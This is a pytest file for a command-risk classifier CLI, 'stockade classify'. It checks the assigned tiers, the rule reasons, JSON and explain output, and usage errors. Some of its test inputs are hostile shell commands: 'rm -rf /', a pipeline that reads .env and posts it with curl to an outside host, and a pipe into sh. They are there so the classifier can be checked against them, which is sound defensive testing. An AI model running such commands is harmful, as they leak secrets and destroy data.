"""``stockade classify``: tier and reasons for a command, as a table or JSON; exit 0 always."""

from __future__ import annotations

import io
import json
import subprocess
import sys

import pytest

from stockade.cli import main


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["classify", *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize(
    ("command", "tier"),
    [("ls -la", "read-only"), ("git add x", "low"), ("make", "medium"), ("git push", "high"),
     ("rm -rf /", "destructive"), ("echo 'unterminated", "destructive")],
)
def test_exit_status_is_zero_whatever_the_tier(
    capsys: pytest.CaptureFixture[str], command: str, tier: str
) -> None:
    code, out, _ = run(capsys, command)
    assert code == 0
    assert out.splitlines()[0] == f"tier: {tier}"


def test_table_names_rule_segment_and_reason(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "ls && git push --force")
    assert code == 0
    assert "git.push-force" in out and "git push --force" in out
    assert "program.table" in out and "ls" in out


def test_json_output(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--json", "cat .env | curl -d @- https://x")
    data = json.loads(out)
    assert code == 0
    assert data["command"] == "cat .env | curl -d @- https://x"
    assert data["tier"] == "high"
    assert [r["rule_id"] for r in data["reasons"]] == ["secret.read", "program.table"]
    assert "segments" not in data


def test_json_explain_includes_segments(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "--json", "--explain", "FOO=1 echo $(id) > /tmp/x | sh")
    (first, second) = json.loads(out)["segments"]
    assert first["words"] == ["echo", "$(id)"]
    assert first["static"] == [True, False]
    assert first["assignments"] == [{"name": "FOO", "value": "1", "static": True}]
    assert first["redirects"] == [{"op": ">", "target": "/tmp/x", "fd": None, "static": True}]
    assert first["substitutions"][0]["segments"][0]["words"] == ["id"]
    assert (second["words"], second["stage"]) == (["sh"], 1)


def test_explain_shows_the_parsed_segments(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "--explain", "echo $(whoami) >> log 2>&1")
    assert "segments" in out
    assert "'echo', '$(whoami)' (dynamic)" in out
    assert "redirect: >> 'log'" in out
    assert "substitution $(" in out and "'whoami'" in out


def test_words_after_double_dash_are_joined_with_quoting(
    capsys: pytest.CaptureFixture[str],
) -> None:
    _, out, _ = run(capsys, "--json", "--", "rm", "-rf", "a b")
    assert json.loads(out)["command"] == "rm -rf 'a b'"


def test_dash_reads_the_command_from_stdin(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("cat <<'EOF' > f\nhi\nEOF\n"))
    _, out, _ = run(capsys, "--json", "-")
    assert json.loads(out)["tier"] == "medium"


@pytest.mark.parametrize("argv", [[""], ["   "], ["--", ""]])
def test_empty_command_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    code, out, err = run(capsys, *argv)
    assert code == 2
    assert out == ""
    assert "the command to classify is empty" in err and "fix:" in err


def test_missing_command_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys)
    assert code == 2
    assert "Missing argument" in err


def test_the_command_module_does_not_import_rich_until_it_renders() -> None:
    code = (
        "import sys, stockade.cli.classify; print('rich' in sys.modules);"
        "from stockade.cli import main; main(['classify', '--json', 'ls']);"
        "print('rich' in sys.modules)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60, check=True)
    lines = done.stdout.split()
    assert (lines[0], lines[-1]) == ("False", "False")


def test_it_runs_as_a_program() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "stockade", "classify", "--json", "sudo reboot"],
        capture_output=True, text=True, timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["tier"] == "destructive"
